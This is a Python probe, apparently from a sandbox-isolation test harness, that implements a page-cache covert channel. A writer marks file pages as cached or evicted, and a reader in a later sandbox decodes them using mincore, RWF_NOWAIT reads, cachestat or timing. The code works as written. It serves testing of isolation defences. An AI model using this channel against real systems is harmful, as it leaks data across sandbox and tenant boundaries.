"""A storage channel through the host's page cache: the writer marks pages of a file
every sandbox can read (a page read in is a 1, a page dropped a 0), the reader, in a
sandbox made after the writer's is gone, tells cached pages from the others (asking
outright: ``preadv2(RWF_NOWAIT)``, ``mincore``, ``cachestat``; by timing its reads).
Run as a plain process (``python bot.py``) it is the same attack without a sandbox."""

import ctypes
import mmap
import os
import statistics
import time

from player import Plain, given, report

libc = ctypes.CDLL(None, use_errno=True)
PAGE = os.sysconf("SC_PAGE_SIZE") if hasattr(os, "sysconf") else 4096
STRIDE = 4  # pages between two bits
BITS = [int(bit) for bit in given("BITS")]
SHARED = given("FILE")
CACHESTAT = 451  # x86_64 and aarch64


def attempt(name, action) -> None:
    try:
        report(name, action())
    except OSError as error:
        report(name, f"refused ({error.errno})")


def offset(index: int) -> int:
    return index * STRIDE * PAGE


def write() -> None:
    fd = os.open(SHARED, os.O_RDONLY)
    attempt("fadvise random", lambda: os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM) or "done")
    attempt(
        "fadvise dontneed", lambda: os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED) or "done"
    )
    with open(SHARED, "rb") as handle:
        mapped = mmap.mmap(handle.fileno(), 0, access=mmap.ACCESS_READ)
        attempt("madvise pageout", lambda: mapped.madvise(21) or "done")  # MADV_PAGEOUT
        mapped.close()
    for index, bit in enumerate(BITS):
        if bit:
            os.pread(fd, 1, offset(index))
    report("written", len(BITS))


def nowait() -> str:
    fd = os.open(SHARED, os.O_RDONLY)
    read = []
    for index in range(len(BITS)):
        try:
            os.preadv(fd, [bytearray(1)], offset(index), os.RWF_NOWAIT)
            read.append(1)
        except BlockingIOError:
            read.append(0)
    return f"right {sum(a == b for a, b in zip(read, BITS, strict=True))} of {len(BITS)}"


def mincore() -> str:
    with open(SHARED, "rb") as handle:
        size = offset(len(BITS))
        mapped = mmap.mmap(handle.fileno(), size, access=mmap.ACCESS_COPY)
        address = ctypes.addressof(ctypes.c_char.from_buffer(mapped))
        vector = (ctypes.c_ubyte * (size // PAGE))()
        if libc.mincore(ctypes.c_void_p(address), ctypes.c_size_t(size), vector) != 0:
            raise OSError(ctypes.get_errno(), "mincore")
        read = [vector[index * STRIDE] & 1 for index in range(len(BITS))]
    return f"right {sum(a == b for a, b in zip(read, BITS, strict=True))} of {len(BITS)}"


def cachestat() -> str:
    fd = os.open(SHARED, os.O_RDONLY)
    span = (ctypes.c_uint64 * 2)(0, PAGE)
    answer = (ctypes.c_uint64 * 5)()
    if libc.syscall(CACHESTAT, fd, span, answer, 0) != 0:
        raise OSError(ctypes.get_errno(), "cachestat")
    return "done"


def timing() -> str:
    fd = os.open(SHARED, os.O_RDONLY)
    took = []
    for index in range(len(BITS)):
        began = time.perf_counter_ns()
        os.pread(fd, 1, offset(index))
        took.append(time.perf_counter_ns() - began)
    middle = statistics.median(took)
    read = [int(ns <= middle) for ns in took]  # a cached page is read fast
    return f"right {sum(a == b for a, b in zip(read, BITS, strict=True))} of {len(BITS)}"


def read() -> None:
    # mincore first: it reads residency without loading anything (a RWF_NOWAIT miss may
    # start a read ahead that loads the next pages)
    for name, probe in (("mincore", mincore), ("nowait", nowait), ("cachestat", cachestat)):
        attempt(name, probe)
    attempt("timing", timing)  # last: every read above may have loaded pages


write() if given("ROLE") == "write" else read()


class PageCache(Plain):
    name = "page-cache"
